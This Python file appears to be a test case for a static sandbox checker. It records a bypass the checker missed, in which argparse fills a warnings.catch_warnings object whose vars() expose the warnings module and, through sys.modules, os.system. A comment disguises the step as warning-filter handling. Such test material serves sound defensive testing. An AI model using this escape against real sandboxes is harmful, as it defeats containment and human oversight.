# family: open_classes
# reaches: process
# layer: static
# static: missed
# SBX402 admits vars(x) when x is an object of an open class; the review says what
# ArgumentParser.parse_args returns is an argparse.Namespace. Route: parse_args(namespace=obj)
# fills in and returns obj itself, here a warnings.catch_warnings(); vars() of it hands out its
# private _module (the warnings module), whose sys.modules holds os.
import argparse
import warnings

parser = argparse.ArgumentParser(description="report builder")
parser.add_argument("--verbose", action="store_true")
# Parse into the warnings context so that --verbose can switch the filters it keeps.
options = parser.parse_args([], namespace=warnings.catch_warnings())
fields = vars(options)
print(sorted(fields))
host = fields["_module"]
host.sys.modules["os"].system("true")
